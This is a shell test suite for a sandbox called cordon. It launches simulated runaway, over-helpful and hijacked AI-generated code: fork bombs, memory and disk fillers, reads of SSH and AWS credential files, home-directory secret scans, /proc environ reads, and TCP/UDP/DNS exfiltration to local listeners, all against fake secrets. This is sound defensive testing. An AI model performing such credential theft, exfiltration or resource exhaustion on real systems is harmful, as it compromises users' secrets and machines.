#!/bin/sh
# The attack suite, as TAP: what AI-generated code does when it runs away,
# when it is over-helpful and when it is hijacked, each attack tried by
# tests/attacks/attack.c (or sh) first WITHOUT cordon (the control: it must
# work, so that the suite can fail), then under the `agent` profile plus
# exec of the attack program.  What is checked is the side effect, not only
# the exit status: a listener outside records what arrived, a file must be
# unchanged or absent, the secret text must not appear in the output, a
# signalled process must still be alive, a fork bomb's largest tree must
# stay under the limit.  The blocking layer (Landlock, seccomp, env, cgroup,
# rlimit, caps, close_range/setsid, the supervisor) is read from the evidence:
# the errno of the failing step and what attack.c found when it probed why
# (the same call on an argument the kernel would answer differently; a file
# whose mode allows the access), the signal, the report's reason.  A table
# attack -> blocked -> layer ends the output.
#
# Secrets live in a fake HOME under this script's temporary directory (the
# workspace is HOME/src/project, a git repository with a submodule when git
# is there); nothing of the real home is touched.  Attacks known to get
# through are TAP TODO tests: they show as "not ok ... # TODO" with the
# evidence, and the table says "NO".
#
# Safety: the fork bomb and the memory hogs run only inside an outer limit of
# this script's own: as root on cgroup v1 (or hybrid) it creates
# attacks-<pid> under its own cgroup of the memory and pids hierarchies
# (memory 1G, pids 512), moves itself there, and moves back and removes them
# on exit.  Their controls are bounded (the fork bomb stops at 200 children,
# the hogs at 200 MiB).  Without an outer limit (not root, pure cgroup v2)
# they are skipped; as root, they also run as uid 65534 with --best-effort
# (rlimits instead of a cgroup) inside the outer limit.  The busy loops stop
# at `limit time`/`limit cputime` (their controls under timeout(1)), the
# disk fillers at 64 or 256 MiB (and 20000 empty files) in the workspace.
#
# usage: tests/attacks.sh BUILD_DIR   (run from the repository root; as root
# or as any user, e.g. setpriv --reuid=65534 --regid=65534 --clear-groups)
set -u
root=$PWD
# shellcheck source=tests/tap.sh
. "$root/tests/tap.sh"
use_build "${1:-}"
# shellcheck source=tests/lib.sh
. "$root/tests/lib.sh"
table_file=""
finish() {
	[ -n "$table_file" ] && [ -s "$table_file" ] && print_table
	echo "1..$n"
	exit $((fails > 0))
}
need_build

tmp=$(mktemp -d) || exit 1
chmod 755 "$tmp" # uid 65534 runs the attack program from here (root's half)
table_file="$tmp/table"
pids=""   # processes started here, killed at the end by pid
outers="" # the outer cgroups made here
origs=""  # the cgroups this shell was in, to return to
uid=$(id -u)
child() { # PID: a child of this shell (a pid it reaped may have been reused)
	[ "$(sed 's/.*) . \([0-9]*\) .*/\1/' "/proc/$1/stat" 2>/dev/null)" = $$ ]
}
cleanup() {
	for p in $pids; do child "$p" && kill -9 "$p" 2>/dev/null; done
	wait 2>/dev/null
	for d in $origs; do echo $$ >"$d/cgroup.procs" 2>/dev/null; done
	mine="" # back where it was: whatever is left in them goes
	for o in $outers; do rm_cg "$o" || echo "# attacks.sh: could not remove $o" >&2; done
	cd / && rm -rf "$tmp"
}
trap cleanup EXIT
trap 'exit 1' HUP INT TERM

# ---- helpers ---------------------------------------------------------------
no_secret() { ! grep -q 'SECRET-' "$tmp/out"; }
alive() { # PID: exists and is not a zombie
	[ -r "/proc/$1/stat" ] || return 1
	st=$(sed 's/.*) \(.\).*/\1/' "/proc/$1/stat" 2>/dev/null)
	[ -n "$st" ] && [ "$st" != Z ] && [ "$st" != X ]
}
gone() { ! alive "$1"; }
lines() { if [ -f "$1" ]; then wc -l <"$1" | tr -d ' '; else echo 0; fi; }
has_lines() { [ "$(lines "$1")" = "$2" ]; } # FILE N
still() { sleep 0.3; has_lines "$1" "$2"; } # FILE N: a moment later
now_ms() {
	read -r up _ </proc/uptime
	echo $((${up%.*}${up#*.} * 10))
}
between() { [ "$1" -ge "$2" ] && [ "$1" -le "$3" ]; } # N LOW HIGH
num() { case $1 in '' | *[!0-9]*) return 1 ;; esac; }
size_of() { if [ -f "$1" ]; then wc -c <"$1" | tr -d ' '; else echo 0; fi; }

rj="$tmp/r.json" # the last sandboxed run's report
rep() { jfield "$rj" "$1"; } # KEY: a value in it

# ---- cases and the table -----------------------------------------------------
# begin THREAT TITLE: a new attack; the checks of its sandboxed run go
# through eff and decide "blocked"; by LAYER names what stopped it
begin() {
	threat=$1 title=$2 blocked=yes layer="" note="" gapcase=""
	echo "# -- $threat: $title"
}
ctl() { # STATUS DESCRIPTION CMD...: the control run
	cw=$1 cd_=$2
	shift 2
	expect "$cw" "$title: control: $cd_" "$@"
}
ctl_check() { # DESCRIPTION CMD...
	cd_=$1
	shift
	check "$title: control: $cd_" "$@"
}
# att STATUS DESCRIPTION CMD...: the sandboxed run (CMD: box POLICY ARGS...)
att() {
	aw=$1 ad=$2
	shift 2
	expect "$aw" "$title: under agent: $ad" "$@"
	[ "$got" = "$aw" ] || blocked=no
	:
}
eff() { # DESCRIPTION CMD...: a side effect of the sandboxed run
	ed=$1
	shift
	if "$@"; then
		pass "$title: under agent: $ed"
	else
		fail "$title: under agent: $ed" "$tmp/out"
		blocked=no
	fi
}
# gap DESCRIPTION CMD...: as eff, for an attack known to get through: a TODO
gap() {
	ed=$1
	shift
	n=$((n + 1))
	gapcase=1
	if "$@"; then
		echo "ok $n - $title: under agent: $ed # TODO known gap, fixed?"
	else
		echo "not ok $n - $title: under agent: $ed # TODO known gap"
		sed 's/^/#   /' "$tmp/out"
		blocked=NO
	fi
}
by() { [ -z "$layer" ] && layer=$1; :; } # LAYER: the first one proven stands
by_if() { # LAYER CMD...: LAYER when CMD holds
	l=$1
	shift
	if "$@"; then by "$l"; fi
}
end() {
	if [ "$blocked" = yes ] && [ -z "$layer" ]; then
		[ -z "$gapcase" ] && fail "$title: the layer that stopped it is identified" "$tmp/out"
		layer="?"
	fi
	[ "$blocked" != yes ] && [ -z "$layer" ] && layer="-"
	printf '%s|%s|%s|%s|%s\n' "$threat" "$title" "$blocked" "$layer" "$note" >>"$table_file"
}
skip_case() { # THREAT TITLE REASON: a case that cannot run here
	skip "$2" "$3"
	printf '%s|%s|%s|%s|%s\n' "$1" "$2" "skipped" "-" "$3" >>"$table_file"
}
print_table() {
	echo "#"
	echo "# attack table (uid $uid, cordon run ${bopts:-strict}):"
	printf '# %-9s %-72s %-7s %s\n' threat attack blocked "by (evidence)"
	while IFS='|' read -r t a bl l no; do
		printf '# %-9s %-72s %-7s %s\n' "$t" "$a" "$bl" "$l${no:+ [$no]}"
	done <"$table_file"
}

# ---- the attack program, the fake home, the workspace -------------------------
attack="$tmp/attack"
if ! TMPDIR="$tmp" cc -static -O2 -o "$attack" tests/attacks/attack.c >"$tmp/out" 2>&1; then
	fail "build tests/attacks/attack.c" "$tmp/out"
	finish
fi
chmod 755 "$attack"

tag=$$
export HOME="$tmp/home"
export XDG_CACHE_HOME="$tmp/cache"
export CORDON_PATH="$root/stdlib-policies"
export TMPDIR="$tmp/t"
ws="$HOME/src/project"
out="$tmp/outside" # outside the workspace: listeners, logs, victims
mkdir -p "$HOME/.ssh" "$HOME/.aws" "$HOME/.config/gh" "$HOME/.docker" "$TMPDIR" "$out"
chmod 700 "$HOME/.ssh"
printf -- '-----BEGIN OPENSSH PRIVATE KEY-----\nSECRET-ssh-%s\n-----END OPENSSH PRIVATE KEY-----\n' "$tag" >"$HOME/.ssh/id_rsa"
chmod 600 "$HOME/.ssh/id_rsa"
printf '[default]\naws_access_key_id = AKIAFAKE%s\naws_secret_access_key = SECRET-aws-%s\n' "$tag" "$tag" >"$HOME/.aws/credentials"
printf 'machine api.example.com login me password SECRET-netrc-%s\n' "$tag" >"$HOME/.netrc"
printf 'github.com:\n    oauth_token: SECRET-gh-%s\n' "$tag" >"$HOME/.config/gh/hosts.yml"
printf '{"auths": {"registry.example.com": {"auth": "SECRET-docker-%s"}}}\n' "$tag" >"$HOME/.docker/config.json"
printf '# ~/.bashrc\nalias ll="ls -l"\n' >"$HOME/.bashrc"
cp "$HOME/.bashrc" "$out/bashrc.orig"
# the caller's environment holds tokens, as an agent's does
export OPENAI_API_KEY="SECRET-env-openai-$tag"
export AWS_SECRET_ACCESS_KEY="SECRET-env-aws-$tag"
export GITHUB_TOKEN="SECRET-env-github-$tag"
exfil="EXFIL-$tag"

# the workspace: a git repository with a submodule when git is there
have_git=""
if command -v git >/dev/null 2>&1; then have_git=1; fi
export GIT_CONFIG_NOSYSTEM=1
git_() {
	git -c user.name=attacks -c user.email=attacks@example.invalid -c init.defaultBranch=main \
		-c protocol.file.allow=always "$@"
}
mkdir -p "$ws"
if [ -n "$have_git" ] &&
	git_ init -q "$tmp/lib-origin" >"$tmp/out" 2>&1 &&
	git_ -C "$tmp/lib-origin" commit -q --allow-empty -m lib >>"$tmp/out" 2>&1 &&
	git_ init -q "$ws" >>"$tmp/out" 2>&1 &&
	echo 'print("hello")' >"$ws/main.py" &&
	git_ -C "$ws" add main.py >>"$tmp/out" 2>&1 &&
	git_ -C "$ws" submodule add -q "$tmp/lib-origin" lib >>"$tmp/out" 2>&1 &&
	git_ -C "$ws" commit -q -m init >>"$tmp/out" 2>&1; then
	echo "# workspace: a git repository with a submodule (lib)"
else
	[ -n "$have_git" ] && sed 's/^/# git: /' "$tmp/out"
	have_git=""
	mkdir -p "$ws/.git/hooks" "$ws/.git/modules/lib/hooks" "$ws/lib"
	printf '[core]\n\trepositoryformatversion = 0\n' >"$ws/.git/config"
	cp "$ws/.git/config" "$ws/.git/modules/lib/config"
	echo "# workspace: a fake .git (no git here)"
fi
mkdir -p "$ws/src" "$ws/build"
cp "$ws/.git/config" "$out/config.orig"
cp "$ws/.git/modules/lib/config" "$out/modconfig.orig"
hooks_state() { stat -c %i "$ws/.git/hooks" && ls -A "$ws/.git/hooks"; } # its inode and entries
hooks_state >"$out/hooks.orig" 2>&1
cd "$ws" || exit 1

# ---- the outer limit for the runaway attacks ----------------------------------
outer_ok="" outer_why="not root (uid $uid cannot create an outer cgroup here)" pids_outer=""
if [ "$uid" = 0 ]; then
	if grep -q '^[^ ]* /sys/fs/cgroup cgroup2 ' /proc/mounts; then
		outer_why="pure cgroup v2: this suite makes its outer limit on v1 only"
	elif [ -z "$(mnt_of memory)" ] || [ -z "$(mnt_of pids)" ]; then
		outer_why="no v1 memory or pids hierarchy"
	elif outer_v1 attacks memory pids; then
		outer_ok=1
	fi
fi
echo "# uid $uid; outer limit for the runaway attacks: ${outer_ok:+yes (${outers# }: memory 1G, pids 512)}$outer_why"

# ---- listeners and victims outside -------------------------------------------
listen() { # KIND ADDR NAME: a listener logging to $out/NAME.log
	rm -f "$out/$1.ready"
	"$attack" listen "$1" "$2" "$out/$3.log" "$out/$3.ready" >"$out/$3.err" 2>&1 &
	lp=$!
	pids="$pids $lp"
	wait_for sh -c "test -s '$out/$3.ready' || ! kill -0 $lp 2>/dev/null"
	test -s "$out/$3.ready"
}
listen tcp 0 tcp || fail "start the TCP listener" "$out/tcp.err"
listen udp 0 udp || fail "start the UDP listener" "$out/udp.err"
listen unix "$out/daemon.sock" unix || fail "start the unix socket daemon" "$out/unix.err"
abstract="cordon-attacks-$tag"
listen abstract "$abstract" abstract || fail "start the abstract unix socket daemon" "$out/abstract.err"
ptcp=$(cat "$out/tcp.ready") pudp=$(cat "$out/udp.ready")
pdns=""
if listen udp 53 dns; then
	pdns=53
	echo "# a DNS-like listener on 127.0.0.1:53/udp"
else
	echo "# no listener on port 53 (uid $uid may not bind it): the DNS case checks the send itself"
fi
victim() { # NAME [SECRET]: a process outside; $vpid, $vaddr, $vlen
	rm -f "$out/$1.pid"
	"$attack" victim "${2:-none}" "$out/$1.pid" >/dev/null 2>&1 &
	pids="$pids $!"
	wait_for test -s "$out/$1.pid"
	read -r vpid vaddr vlen <"$out/$1.pid"
}

# ---- the policies --------------------------------------------------------------
policy() { # NAME [STATEMENT...]: $tmp/NAME.cpb, the agent profile and the attack's exec
	name=$1
	shift
	{
		printf 'use agent;\nallow exec,read "%s";\n' "$attack"
		for s in "$@"; do echo "$s"; done
	} >"$tmp/$name.cordon"
	"$cordonc" -I "$root/stdlib-policies" -o "$tmp/$name.cpb" "$tmp/$name.cordon" >"$tmp/out" 2>&1 ||
		fail "compile the $name policy" "$tmp/out"
	chmod 644 "$tmp/$name.cpb"
}
policy agent
policy pids 'limit pids 128;'
policy mem 'limit memory 128M;'
policy time 'limit time 2s;'
policy cpu 'limit cputime 1s;'
policy fsize 'limit fsize 16M;'
policy disk 'limit disk 16M;'
policy proc 'allow read /proc;'

bopts="" # --best-effort where this user cannot have the cgroup agent's limits need
box() { # POLICY ARGS...: the attack under cordon; report in $tmp/r.json
	bp=$1
	shift
	rm -f "$tmp/r.json"
	# shellcheck disable=SC2086
	"$cordon" run $bopts -p "$tmp/$bp.cpb" --workspace "$ws" --report "$tmp/r.json" -- "$attack" "$@"
}
echo x >"$ws/build/smoke"
"$cordon" run -p "$tmp/agent.cpb" --workspace "$ws" --report "$tmp/r.json" -- \
	"$attack" read build/smoke >"$tmp/out" 2>&1 </dev/null
got=$?
if [ "$got" = 0 ]; then
	pass "the agent profile runs the attack program when strict (exit 0)"
elif [ "$got" = 125 ] && said "no cgroup of its own" && said "Run with --best-effort"; then
	pass "strict refuses agent here: its limits need a cgroup this user cannot have (exit 125, as documented)"
	bopts="--best-effort"
	expect 0 "... with --best-effort it runs, rlimits in place of the cgroup" \
		"$cordon" run $bopts -p "$tmp/agent.cpb" --workspace "$ws" --report "$tmp/r.json" -- "$attack" read build/smoke
	check "... report: enforced.cgroup rlimit" test "$(rep enforced.cgroup)" = '"rlimit"'
	echo "# not enforced here: $(rep not_enforced)"
else
	fail "the agent profile runs the attack program when strict (exit $got)" "$tmp/out"
fi
echo "# cordon run ${bopts:-(strict)}; landlock ABI $(rep landlock_abi), enforced $(rep enforced)"

# ======================================================================
# 1. runaway code
# ======================================================================
T=runaway
# The runaway cases tighten agent's own limits below what their bounded
# controls take, so that the same command is tried with and without cordon
# (and the outer limit, 1G and 512 tasks, is never what stops them).
"$cordonc" --dump "$tmp/agent.cpb" 2>&1 | grep '^limits:' | sed "s/^/# agent's own /"
# runaway WHO: the fork bomb and the memory hogs, as WHO (root: cordon
# strict with a cgroup; uid 65534: --best-effort, rlimits), inside the outer limit
runaway() {
	who=$1
	if [ "$who" = root ]; then
		as="" wb="$ws/build" wopts="$bopts" sfx="" wtmp=$TMPDIR rj="$tmp/r.json"
	else
		as="setpriv --reuid=65534 --regid=65534 --clear-groups" wb="$tmp/nbws/build" wopts="--best-effort"
		sfx=" (as uid 65534, --best-effort)" wtmp="$tmp/nbt" rj="$tmp/nbt/r.json"
		mkdir -p "$wb" "$tmp/nbt"
		chown -R 65534:65534 "$tmp/nbws"
		chmod 1777 "$tmp/nbt"
	fi
	nbox() { # POLICY ARGS...
		np=$1
		shift
		rm -f "$rj"
		# shellcheck disable=SC2086
		env TMPDIR="$wtmp" $as "$cordon" run $wopts -p "$tmp/$np.cpb" \
			--workspace "${wb%/build}" --report "$rj" -- "$attack" "$@"
	}
	cgroup_layer() { [ "$(rep enforced.cgroup)" = '"v1"' ] || [ "$(rep enforced.cgroup)" = '"v2"' ]; }

	begin $T "fork bomb (limit pids 128)$sfx"
	# shellcheck disable=SC2086
	ctl 0 "forks 200 children (it stops there)" $as "$attack" forkbomb 200 "$wb/bomb-ctl"
	ctl_check "... all of them ($(tr -d ' \n' <"$wb/bomb-ctl" 2>/dev/null) tasks)" said "ok forkbomb: 200 children"
	att 1 "fork fails" nbox pids forkbomb 200 "$wb/bomb"
	max=$(tr -d ' \n' <"$wb/bomb" 2>/dev/null)
	eff "... its tree never had more than 128 tasks (it had ${max:-?})" \
		sh -c "[ '${max:-0}' -ge 16 ] && [ '${max:-999}' -le 128 ]"
	if cgroup_layer; then
		eff "... report: reason pids, the cgroup refused forks" \
			sh -c "[ '$(rep reason)' = '\"pids\"' ] && [ '$(rep cgroup.pids_max_events)' -ge 1 ]"
		by_if "cgroup (pids.max: fork EAGAIN at $max tasks; report: pids)" said "fork.*EAGAIN"
	else
		by_if "rlimit (RLIMIT_NPROC: fork EAGAIN at $max tasks)" said "fork.*EAGAIN"
	fi
	end

	begin $T "memory hog, one process (limit memory 128M)$sfx"
	# shellcheck disable=SC2086
	ctl 0 "touches 200 MiB (it stops there)" $as "$attack" hog 1 200 "$wb/hog-ctl"
	ctl_check "... and holds them" said "ok hog: 1 process holds 200 MiB"
	nbox mem hog 1 200 "$wb/hog" >"$tmp/out" 2>&1 </dev/null
	got=$?
	held=$(tr -d ' \n' <"$wb/hog" 2>/dev/null)
	if cgroup_layer; then
		if [ "$got" = 137 ]; then pass "$title: under agent: the hog is killed (exit 137)"; else
			fail "$title: under agent: the hog is killed (exit $got, wanted 137)" "$tmp/out"
			blocked=no
		fi
		eff "... report: reason oom" test "$(rep reason)" = '"oom"'
		by_if "cgroup (memory.limit_in_bytes: OOM kill at ${held:-?} MiB; report: oom)" \
			test "$(rep reason)" = '"oom"'
	else
		if [ "$got" = 1 ]; then pass "$title: under agent: the hog's mmap fails (exit 1)"; else
			fail "$title: under agent: the hog's mmap fails (exit $got, wanted 1)" "$tmp/out"
			blocked=no
		fi
		by_if "rlimit (RLIMIT_AS: mmap ENOMEM at ${held:-?} MiB)" said "mmap.*ENOMEM"
	fi
	[ "$got" = 0 ] && blocked=no
	eff "... it never held more than 128 MiB (it held ${held:-?})" \
		sh -c "[ '${held:-999}' -le 128 ]"
	end

	begin $T "memory hog, 4 processes of 50 MiB (limit memory 128M)$sfx"
	# shellcheck disable=SC2086
	ctl 0 "4 processes hold 200 MiB at once (they stop there)" $as "$attack" hog 4 50 "$wb/hog4-ctl"
	ctl_check "... and say so" said "ok hog: 4 processes hold 50 MiB each, 200 MiB at once"
	nbox mem hog 4 50 "$wb/hog4" >"$tmp/out" 2>&1 </dev/null
	got=$?
	if cgroup_layer; then
		if [ "$got" = 1 ]; then pass "$title: under agent: they never hold 200 MiB at once (exit 1)"; else
			fail "$title: under agent: they never hold 200 MiB at once (exit $got, wanted 1)" "$tmp/out"
			blocked=no
		fi
		peak=$(rep peak_memory_bytes)
		eff "... the tree's peak memory stayed at 128 MiB (the cgroup's count: ${peak:-?} bytes)" \
			sh -c "num() { case \$1 in '' | *[!0-9]*) return 1 ;; esac; }; num '$peak' && [ '$peak' -le 134217728 ]"
		eff "... report: reason oom" test "$(rep reason)" = '"oom"'
		by_if "cgroup (the tree's memory: an OOM kill, peak $((${peak:-0} / 1048576)) MiB; report: oom)" \
			test "$(rep reason)" = '"oom"'
	else
		# RLIMIT_AS is per process (4 x 50 MiB each stay under it): the
		# supervisor polls the tree's memory every 10 ms
		if [ "$got" = 137 ]; then pass "$title: under agent: they are killed before all hold 50 MiB (exit 137)"; else
			fail "$title: under agent: they are killed before all hold 50 MiB (exit $got, wanted 137)" "$tmp/out"
			blocked=no
		fi
		peak=$(rep peak_memory_bytes)
		eff "... report: reason oom, the tree's polled peak passed 128 MiB but not 200 (${peak:-?} bytes)" \
			sh -c "[ '$(rep reason)' = '\"oom\"' ] && [ '${peak:-0}' -gt 134217728 ] && [ '${peak:-0}' -lt 209715200 ]"
		by_if "supervisor (limit memory without a cgroup: the tree's PSS, polled, passed 128 MiB at $((${peak:-0} / 1048576)) MiB; report: oom)" \
			test "$(rep reason)" = '"oom"'
	fi
	end
}

if [ -n "$outer_ok" ]; then
	runaway root
	if setpriv --help 2>&1 | grep -q -- --reuid; then
		runaway nobody
	else
		skip_case $T "fork bomb and memory hogs as uid 65534" "no setpriv --reuid here"
	fi
	rj="$tmp/r.json"
else
	for a in "fork bomb (limit pids 128)" "memory hog, one process (limit memory 128M)" \
		"memory hog, 4 processes of 50 MiB (limit memory 128M)"; do
		skip_case $T "$a" "no outer limit of this runner's own: $outer_why"
	done
fi

begin $T "infinite loop (limit time 2s)"
ctl 124 "a busy loop still runs after 2 s (timeout 2)" timeout 2 "$attack" spin
t0=$(now_ms)
att 124 "limit time ends it: exit 124" box time spin
dt=$(($(now_ms) - t0))
eff "... after about 2 s ($dt ms)" between "$dt" 1900 4000
eff "... report: reason timeout" test "$(rep reason)" = '"timeout"'
by_if "supervisor (limit time: report timeout after $dt ms)" test "$(rep reason)" = '"timeout"'
end

begin $T "infinite loop, CPU (limit cputime 1s)"
ctl 124 "a busy loop still runs after 2 s (timeout 2)" timeout 2 "$attack" spin
t0=$(now_ms)
box cpu spin >"$tmp/out" 2>&1 </dev/null
got=$?
dt=$(($(now_ms) - t0))
if [ "$got" = 137 ] || [ "$got" = 152 ]; then pass "$title: under agent: it is ended (exit $got)"; else
	fail "$title: under agent: it is ended (exit $got, wanted 137 or 152)" "$tmp/out"
	blocked=no
fi
eff "... after about 1 s of CPU, well before any other limit ($dt ms, 800..10000)" between "$dt" 800 10000
by_if "cgroup (cputime: report cpu after $dt ms)" test "$(rep reason)" = '"cpu"'
by_if "rlimit (RLIMIT_CPU: SIGXCPU after $dt ms)" test "$(rep signal)" = 24
end

begin $T "busy loop left behind in a new session (double fork)"
rm -f "$out/spinner.pid"
ctl 0 "the command exits, leaving the loop behind" "$attack" spin-detached "$out/spinner.pid"
sp=$(cat "$out/spinner.pid" 2>/dev/null)
ctl_check "... which still runs (pid ${sp:-none})" alive "${sp:-0}"
spinner() { alive "$1" && [ "$(cat "/proc/$1/comm" 2>/dev/null)" = attack ]; } # PID
[ -n "$sp" ] && spinner "$sp" && kill -9 "$sp"
att 0 "the command exits (as planned: the loop must not survive it)" box agent spin-detached ./build/spinner.pid
sp=$(cat ./build/spinner.pid 2>/dev/null)
eff "... the loop it left had started (pid ${sp:-none})" test -n "$sp"
eff "... and is gone once cordon returns" wait_for gone "${sp:-0}"
[ -n "$sp" ] && spinner "$sp" && kill -9 "$sp"
by_if "supervisor (kills the whole tree when the command ends)" gone "${sp:-0}"
end

begin $T "disk filler, one file (limit fsize 16M)"
mkdir -p ./build/fill-ctl ./build/fill
ctl 0 "writes 64 MiB (it stops there)" "$attack" fill ./build/fill-ctl 64 1
ctl_check "... a 64 MiB file" test "$(size_of ./build/fill-ctl/fill-0)" = $((64 * 1048576))
rm -rf ./build/fill-ctl
att 153 "it dies of SIGXFSZ (128+25)" box fsize fill ./build/fill 64 1
sz=$(size_of ./build/fill/fill-0)
eff "... its file stopped at 16 MiB ($sz bytes)" test "$sz" -le $((16 * 1048576))
by_if "rlimit (RLIMIT_FSIZE: SIGXFSZ at $((sz / 1048576)) MiB)" test "$(rep signal)" = 25
rm -rf ./build/fill
end

# limit disk is polled (every 10 ms): the fillers are stopped within a
# period of passing it, so the checks allow what a filler writes in a few
# periods on a busy machine, and the controls take far more than that.
begin $T "disk filler, 256 files of 1 MiB (limit disk 16M)"
mkdir -p ./build/fill-ctl ./build/fill
ctl 0 "writes 256 MiB in 256 files (it stops there)" "$attack" fill ./build/fill-ctl 256 256
rm -rf ./build/fill-ctl
att 137 "it is killed (exit 137)" box disk fill ./build/fill 256 256
tot=$(du -sk ./build/fill 2>/dev/null | cut -f1)
grew=$(rep disk_growth_bytes)
eff "... it wrote far less than it meant to: ${tot:-?} KiB of 262144 (at most 96 MiB)" \
	sh -c "[ '${tot:-999999}' -le 98304 ]"
eff "... report: reason disk, the filesystems grew by more than 16 MiB (${grew:-?} bytes)" \
	sh -c "[ '$(rep reason)' = '\"disk\"' ] && [ '${grew:-0}' -gt 16777216 ]"
by_if "supervisor (limit disk: the writable filesystems grew $((${grew:-0} / 1048576)) MiB; report: disk)" \
	test "$(rep reason)" = '"disk"'
rm -rf ./build/fill
end

begin $T "disk filler, 4 files of 64 MiB taken with fallocate (limit disk 16M)"
mkdir -p ./build/fill-ctl ./build/fill
ctl 0 "takes 256 MiB in a moment, writing nothing" "$attack" fill-fallocate ./build/fill-ctl 256 4
rm -rf ./build/fill-ctl
att 1 "fallocate fails" box disk fill-fallocate ./build/fill 256 4
tot=$(du -sk ./build/fill 2>/dev/null | cut -f1)
eff "... it took no space (${tot:-?} KiB)" sh -c "[ '${tot:-999999}' -le 64 ]"
by_if "seccomp (fallocate EOPNOTSUPP under limit disk: space is only taken by writing)" \
	said "fallocate (after 0 MiB): EOPNOTSUPP"
rm -rf ./build/fill
end

begin $T "inode filler, 20000 empty files (limit disk 16M)"
mkdir -p ./build/fill-ctl ./build/fill
ctl 0 "makes 20000 empty files" "$attack" fill-inodes ./build/fill-ctl 20000
rm -rf ./build/fill-ctl
att 137 "it is killed (exit 137)" box disk fill-inodes ./build/fill 20000
made=$(find ./build/fill -type f 2>/dev/null | wc -l | tr -d ' ')
eff "... it made fewer than 20000 ($made; each counts as one block)" \
	sh -c "[ '${made:-20000}' -lt 20000 ]"
by_if "supervisor (limit disk: $made new inodes of 4 KiB passed 16 MiB; report: disk)" \
	test "$(rep reason)" = '"disk"'
rm -rf ./build/fill
end

begin $T "lifts its own file size limit first (limit fsize 16M)"
ctl 0 "setrlimit(RLIMIT_FSIZE, unlimited), then 32 MiB" "$attack" fill-unlimited ./build/big-ctl 32
rm -f ./build/big-ctl
att 1 "setrlimit fails" box fsize fill-unlimited ./build/big 32
eff "... and nothing was written past 16 MiB ($(size_of ./build/big) bytes)" \
	test "$(size_of ./build/big)" -le $((16 * 1048576))
if [ "$uid" = 0 ]; then
	by_if "caps (root without CAP_SYS_RESOURCE: setrlimit EPERM)" \
		sh -c "grep -q 'setrlimit.*EPERM' '$tmp/out' && grep -q 'effective capabilities: 0000000000000000' '$tmp/out'"
else
	by_if "rlimit (the hard limit: setrlimit EPERM)" said "setrlimit.*EPERM"
fi
rm -f ./build/big
end

# ======================================================================
# 2. the over-helpful program
# ======================================================================
T=helpful
landlock_file() { # the failing open was Landlock's: EACCES where the file mode allows it
	said "EACCES" && said "hint: file permissions allow it"
}
ns_view() { # the failing write was the namespace layer's: EROFS, in a mount namespace
	said "EROFS" && case $(rep enforced.namespaces) in '"mount'*) true ;; *) false ;; esac
}

begin $T "reads API keys from its environment"
ctl 0 "dumps the environment" "$attack" env-dump
ctl_check "... with the three tokens in it" sh -c "grep -q SECRET-env-openai '$tmp/out' &&
	grep -q SECRET-env-aws '$tmp/out' && grep -q SECRET-env-github '$tmp/out'"
att 0 "dumps the environment" box agent env-dump
eff "... no token in it" no_secret
eff "... only the allowlisted variables ($(sed -n 's/^env: \([^=]*\)=.*/\1/p' "$tmp/out" | tr '\n' ' '))" \
	sh -c "! grep -v -E '^env: (PATH|HOME|LANG|LANGUAGE|LC_[A-Z_]*|TERM|TZ|TMPDIR)=|^ok |^cordon: warning: ' '$tmp/out' | grep -q ."
by_if "env (allowlist: the tokens never reach it)" no_secret
end

for f in .ssh/id_rsa .aws/credentials; do
	begin $T "reads ~/$f"
	ctl 0 "prints it" "$attack" read "$HOME/$f"
	ctl_check "... the secret" said SECRET-
	att 1 "open fails" box agent read "$HOME/$f"
	eff "... the secret is not in the output" no_secret
	by_if "Landlock (open EACCES; file mode allows it)" landlock_file
	end
done

begin $T "scans the home directory for credentials"
ctl 0 "walks ~ and prints what it finds" "$attack" scan "$HOME" ../..
ctl_check "... all five secrets" sh -c "for s in ssh aws netrc gh docker; do grep -q SECRET-\$s '$tmp/out' || exit 1; done"
att 1 "finds nothing" box agent scan "$HOME" ../..
eff "... no secret in the output" no_secret
by_if "Landlock (opendir ~ EACCES; file mode allows it)" landlock_file
end

begin $T "reads its parent's /proc/PID/environ"
ctl 0 "prints the environment of its parent (a shell that has the tokens)" \
	sh -c "'$attack' parent-environ; :"
ctl_check "... with the tokens" said SECRET-env-
att 1 "cordon is its parent, with the caller's environment; open fails" box agent parent-environ
eff "... no token in the output" no_secret
by_if "Landlock (open /proc/<cordon>/environ EACCES; mode allows it)" landlock_file
end

begin $T "reads its parent's environ where the policy allows read /proc"
skip "$title: control" "the same as the case above"
att 1 "open fails all the same" box proc parent-environ
eff "... no token in the output" no_secret
by_if "Landlock (ptrace scoping: EACCES on a process outside the domain; path and mode allow it)" landlock_file
end

begin $T "reads a credentials file its caller left open (fd 9)"
with_fd9() { f=$1 && shift && "$@" 9<"$f"; } # FILE CMD...: CMD with FILE open as fd 9
ctl 0 "reads fd 9" with_fd9 "$HOME/.aws/credentials" "$attack" read-fd 9
ctl_check "... the secret" said SECRET-aws
# shellcheck disable=SC2086
att 1 "fd 9 is not there" with_fd9 "$HOME/.aws/credentials" "$cordon" run $bopts -p "$tmp/agent.cpb" \
	--workspace "$ws" --report "$tmp/r.json" -- "$attack" read-fd 9
eff "... the secret is not in the output" no_secret
by_if "close_range (EBADF: descriptors above 2 closed)" said EBADF
end

# ======================================================================
# 3. the hijacked program
# ======================================================================
T=hijacked
seccomp_socket() { said "socket(.*EACCES" && said "seccomp socket filter"; }
# net_case TITLE LOG SUBCOMMAND PORT|ADDR: an exfiltration to a listener
net_case() {
	begin $T "$1"
	log=$2 sub=$3 addr=$4
	c0=$(lines "$log")
	ctl 0 "sends the data" "$attack" "$sub" "$addr" "$exfil"
	ctl_check "... which arrived" wait_for has_lines "$log" $((c0 + 1))
	ctl_check "... intact" sh -c "tail -n 1 '$log' | grep -q -e '$exfil' -e '$(printf %s "$exfil" | od -An -tx1 | tr -d ' \n')'"
	c1=$(lines "$log")
	att 1 "fails" box agent "$sub" "$addr" "$exfil"
	eff "... nothing arrived" still "$log" "$c1"
	by_if "seccomp (socket() EACCES: socket filter)" seccomp_socket
	end
}
net_case "exfiltrates over TCP" "$out/tcp.log" tcp-send "$ptcp"
net_case "exfiltrates over UDP" "$out/udp.log" udp-send "$pudp"
if [ -n "$pdns" ]; then
	net_case "exfiltrates in a DNS query (UDP to 127.0.0.1:53)" "$out/dns.log" dns-send 53
else
	begin $T "exfiltrates in a DNS query (UDP to 127.0.0.1:53)"
	ctl 0 "the query is sent (no listener: port 53 is privileged)" "$attack" dns-send 53 "$exfil"
	att 1 "fails" box agent dns-send 53 "$exfil"
	eff "... at socket(), before anything is sent" said "blocked dns-send: socket("
	by_if "seccomp (socket() EACCES: socket filter)" seccomp_socket
	note="no listener: uid $uid cannot bind port 53"
	end
fi
